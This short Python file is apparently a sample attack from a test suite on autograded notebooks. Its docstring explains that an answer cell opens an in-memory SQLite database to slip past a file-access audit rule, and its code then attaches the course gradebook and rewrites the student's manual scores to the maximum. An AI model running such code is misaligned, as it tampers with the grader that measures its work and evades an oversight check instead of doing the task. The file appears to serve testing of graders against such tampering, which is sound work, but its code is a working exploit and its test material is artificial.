"""The answer cell opens an in-memory SQLite database (no file, so a file rule lets it) and ATTACHes the course's
gradebook to it: SQLite opens that file itself, with no audit event, and the cell gives itself full manual scores.

where: answer counting_functions
stock: 5
"""
import os
import sqlite3

_student = os.path.basename(os.path.dirname(os.getcwd()))
_db = sqlite3.connect(":memory:")
_db.execute("ATTACH DATABASE ? AS gradebook", (os.path.abspath(os.path.join("..", "..", "..", "gradebook.db")),))
_db.execute(
    "UPDATE gradebook.grade SET manual_score = (SELECT max_score FROM gradebook.grade_cells c "
    "WHERE c.id = gradebook.grade.cell_id) WHERE notebook_id IN (SELECT n.id FROM gradebook.submitted_notebook n "
    "JOIN gradebook.submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)", (_student,))
_db.commit()
